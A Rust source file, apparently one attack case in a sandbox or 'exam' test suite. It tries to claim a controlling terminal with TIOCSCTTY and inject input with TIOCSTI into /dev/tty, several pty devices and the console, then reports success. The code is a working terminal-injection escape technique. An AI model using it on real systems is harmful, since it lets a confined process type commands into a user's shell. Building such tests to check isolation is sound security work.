// Types a command into the terminal in which the exam was started.
// on: reference
// in: push
// at: home
// earns: at most 100

unsafe extern "C" {
    fn ioctl(fd: i32, request: usize, byte: *const u8) -> i32;
    fn open(path: *const core::ffi::c_char, flags: i32, mode: u32) -> i32;
}

fn attack() {
    const TIOCSTI: usize = 0x5412;
    const TIOCSCTTY: usize = 0x540e;
    unsafe {
        let terminals = [c"/dev/tty", c"/dev/pts/0", c"/dev/pts/1", c"/dev/console"];
        let opened = terminals.map(|terminal| open(terminal.as_ptr(), 0, 0));
        for fd in (0..16).chain(opened) {
            ioctl(fd, TIOCSCTTY, 1 as *const u8);
            if ioctl(fd, TIOCSTI, &b'\n') == 0 {
                attack_succeeded();
            }
        }
    }
}
